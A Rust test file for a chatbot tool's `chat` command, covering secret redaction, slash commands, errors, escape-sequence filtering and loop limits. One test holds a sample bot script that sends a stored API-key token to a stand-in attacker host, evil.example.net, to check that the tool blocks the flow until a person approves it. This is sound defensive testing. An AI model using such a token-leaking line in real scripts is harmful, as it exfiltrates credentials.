//! `chat`: lines in, messages out.

use serde_json::Value;

use crate::machine::{CANARY, MANIFEST, Machine};

#[test]
fn the_bot_says_its_secret_by_name() {
    let machine = Machine::with_vault();
    let bot = machine.secret_bot();
    machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
    let ran = machine.patchbay(&["chat"]).of(&bot).unlocking().given("Ann\n").run().fine();
    ran.prints("Key: ‹secret:api_key›\nWho are you?\nHello Ann.\n");
}

#[test]
fn machines_get_one_object_a_line() {
    let machine = Machine::with_vault();
    let bot = machine.secret_bot();
    machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
    let ran = machine.patchbay(&["chat", "--json"]).of(&bot).unlocking().given("Ann\n").run().fine();
    let items: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let said: Vec<_> = items.iter().filter(|item| item["from"] == "bot" || item["from"] == "user").collect();
    let from: Vec<_> = said.iter().map(|item| item["from"].as_str().unwrap()).collect();
    assert_eq!(from, ["bot", "bot", "user", "bot"], "{items:?}");
    assert!(
        said[0]["text"].as_array().unwrap().iter().any(|part| part["type"] == "secret" && part["alias"] == "api_key")
    );
    assert_eq!(said[3]["text"][0]["text"], "Hello Ann.");
}

#[test]
fn commands_begin_with_a_slash() {
    let machine = Machine::new();
    let script =
        "dialog main do\n  name = ask \"Name?\"\n  say \"Hello #{name}.\"\n  other = ask \"More?\"\n  say other\nend\n";
    let bot = machine.bot("talk", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]);
    let ran =
        machine.patchbay(&["chat"]).of(&bot).given("Ann\n/restart\n\n//slash\n/dance 2h\n/quit\nunread\n").run().fine();
    ran.prints("Name?\nHello Ann.\nMore?\nName?\nHello /slash.\nMore?\n")
        .says(&["There is no command /dance", "/login"]);
}

#[test]
fn the_end_of_input_is_the_end() {
    let machine = Machine::new();
    let bot = machine.bot(
        "ask",
        &[("integrations.yaml", "[]\n"), ("main.bubble", "dialog main do\n  x = ask \"Name?\"\n  say x\nend\n")],
    );
    machine.patchbay(&["chat"]).of(&bot).run().fine().prints("Name?\n");
    machine.patchbay(&["chat"]).of(&bot).given("no line break").run().fine().prints("Name?\nno line break\n");
    machine
        .patchbay(&["chat"])
        .of(&bot)
        .given(b"\xff\n")
        .run()
        .exits(2)
        .says(&["Line 1 of standard input is not UTF-8"]);
}

#[test]
fn an_error_ends_the_conversation_with_its_place() {
    let machine = Machine::new();
    let script = "dialog main do\n  x = ask \"Name?\"\n  say 1 / 0\n  say \"not said\"\nend\n";
    let bot = machine.bot("fails", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]);
    let ran =
        machine.patchbay(&["chat"]).of(&bot).given("Ann\nBob\n").run().exits(1).says(&["main.bubble:3:", "error:"]);
    assert_eq!(ran.err.matches("main.bubble:3:").count(), 1, "{ran:?}");
    ran.prints("Name?\n");
}

#[test]
fn a_script_that_cannot_run_is_a_problem_found() {
    let machine = Machine::new();
    let bot = machine.bot("broken", &[("integrations.yaml", MANIFEST), ("main.bubble", "dialog main do\n  say \"a\n")]);
    machine.patchbay(&["chat"]).of(&bot).run().exits(1).prints("").says(&["main.bubble:", "patchbay check"]);
}

#[test]
fn what_a_script_logs_is_a_message() {
    let machine = Machine::new();
    let script = "dialog main do\n  log \"noted\"\n  say \"said\"\nend\n";
    let bot = machine.bot("logs", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]);
    machine.patchbay(&["chat"]).of(&bot).run().fine().prints("said\n").says(&["noted", "main.bubble:2:"]);
}

#[test]
fn what_a_bot_says_cannot_steer_the_terminal() {
    let machine = Machine::new();
    let bot = machine
        .bot("escape", &[("integrations.yaml", "[]\n"), ("main.bubble", "dialog main do\n  say \"a\x1b[2Jb\"\nend\n")]);
    let ran = machine.patchbay(&["chat"]).of(&bot).run();
    assert!(!ran.out.contains('\x1b') && !ran.err.contains('\x1b'), "{ran:?}");
}

#[test]
fn an_endless_loop_is_stopped() {
    let machine = Machine::new();
    let bot = machine.bot(
        "loop",
        &[
            ("integrations.yaml", "[]\n"),
            (
                "main.bubble",
                "dialog a do\n  invoke b\nend\n\ndialog b do\n  invoke a\nend\n\ndialog main do\n  invoke a\nend\n",
            ),
        ],
    );
    let ran = machine.patchbay(&["chat"]).of(&bot).run().exits(1);
    assert!(ran.err.contains("main.bubble:"), "{ran:?}");
}

#[test]
fn a_locked_vault_is_said_before_the_conversation() {
    let machine = Machine::with_vault();
    let bot = machine.secret_bot();
    machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
    machine.patchbay(&["chat"]).of(&bot).given("Ann\n").run().says(&["The vault is locked", "--passphrase-fd"]);
}

#[test]
fn time_events_and_buttons_are_commands() {
    let machine = Machine::new();
    let script = "buttons \"Choose\" do\n  \"One\" ->\n    event \"picked\", [n: 1]\n  \"Page\" ->\n    open \"https://example.org/\"\nend\nx = ask \"Still there?\", timeout: 60\nsay \"late\"\n\ndialog event: \"order\" do\n  say \"Order #{event.payload.id}\"\nend\n\ndialog event: \"picked\" do\n  say \"Picked #{event.payload.n}\"\nend\n";
    let bot = machine.bot("events", &[("integrations.yaml", "[]\n"), ("main.bubble", script)]);
    let lines = "/event order {\"id\": 7}\n/press 1\n/press 9\n/jump 2m\n";
    let ran = machine.patchbay(&["chat"]).of(&bot).given(lines).run().fine();
    for said in ["Choose\n  [1] One\n  [2] Page\n", "Order 7\n", "Picked 1\n", "late\n"] {
        assert!(ran.out.contains(said), "{said:?}: {ran:?}");
    }
    ran.says(&["There is no button 9"]);
    let ran = machine.patchbay(&["chat"]).of(&bot).given("/event order {\n").run();
    ran.exits(2).says(&["error:"]);
}

#[test]
fn a_script_on_standard_input_runs_in_place_of_the_bots() {
    let machine = Machine::with_vault();
    let bot = machine.secret_bot();
    machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
    let script = "dialog main do\nsay \"pasted \" + get_access_token(bot.tokens.api_key)\nend";
    let ran = machine.patchbay(&["chat", "--script"]).of(&bot).unlocking().given(script).run().fine();
    ran.prints("pasted ‹secret:api_key›\n");
    let ran = machine.patchbay(&["chat", "--script"]).of(&bot).unlocking().given("dialog main do\n  say \"").run();
    ran.exits(1).says(&["pasted.bubble:"]);
}

#[test]
fn a_token_goes_nowhere_new_without_a_person() {
    let machine = Machine::with_vault();
    let script = "dialog main do\n  t = get_access_token(bot.tokens.api_key)\n  http_get \"https://evil.example.net/\" + t\n  say \"sent\"\nend\n";
    let bot = machine.bot("leaks", &[("integrations.yaml", MANIFEST), ("main.bubble", script)]);
    machine.patchbay(&["secret", "set", "api_key"]).of(&bot).unlocking().given(CANARY).run().fine();
    let ran = machine.patchbay(&["chat"]).of(&bot).unlocking().run().exits(1).prints("");
    ran.says(&["main.bubble:3:3: ", "evil.example.net", "`patchbay flows approve api_key evil.example.net`"]);
    machine.patchbay(&["flows", "approve", "api_key", "evil.example.net"]).of(&bot).run().exits(2).says(&["--yes"]);
    machine.patchbay(&["flows", "approve", "api_key", "https://x/", "--yes"]).of(&bot).run().exits(2);
    machine.patchbay(&["flows", "approve", "nobody", "x.example", "--yes"]).of(&bot).run().exits(2);
    machine.patchbay(&["flows", "approve", "api_key", "evil.example.net", "--yes"]).of(&bot).run().fine();
    machine.patchbay(&["chat"]).of(&bot).unlocking().run().fine().prints("sent\n");
}
